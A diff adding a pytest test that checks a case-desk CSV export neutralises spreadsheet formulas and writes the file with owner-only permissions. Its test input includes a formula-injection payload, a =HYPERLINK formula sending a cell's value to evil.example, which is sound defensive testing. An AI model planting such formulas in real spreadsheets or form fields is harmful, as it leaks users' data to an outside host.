@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import stat
 
 import pytest
 
@@ -56,6 +57,34 @@ def test_invite_code_links_the_officer_once(case_desk) -> None:
     with pytest.raises(InviteError):
         case_desk.store.officers.redeem_invite(invite, 556, case_desk.now())
     assert case_desk.store.officers.officer_for_chat(555) == "zhao_min"
+
+
+def test_an_export_runs_no_formula_and_only_its_owner_can_read_it(case_desk, tmp_path) -> None:
+    case = case_desk.open_case(
+        Report(
+            resident_id="7",
+            language="en",
+            category="report_noise",
+            summary='=HYPERLINK("http://evil.example/?"&A1,"details")',
+            area_id="binhe",
+            parties="@SUM(1+1)",
+            harm="none",
+            contact_consent=True,
+            contact="+86 138 0000 1234",
+        )
+    ).case
+    target = tmp_path / "cases.csv"
+    target.write_text("old", encoding="utf-8")
+    target.chmod(0o644)  # an earlier export, readable by everyone
+    assert run(case_desk, "cases", "export", "--personal-data", "-o", str(target))[0] == 0
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    [row] = list(csv.DictReader(target.open(encoding="utf-8")))
+    assert row["number"] == case.number and row["priority"] == "normal" and row["state"] == "open"
+    assert row["summary"] == '\'=HYPERLINK("http://evil.example/?"&A1,"details")'
+    assert row["parties"] == "'@SUM(1+1)" and row["contact"] == "'+86 138 0000 1234"
+    fresh = tmp_path / "new.csv"
+    assert run(case_desk, "cases", "export", "-o", str(fresh))[0] == 0
+    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
 
 
 def test_invite_for_an_unknown_officer_fails(case_desk, capsys) -> None:
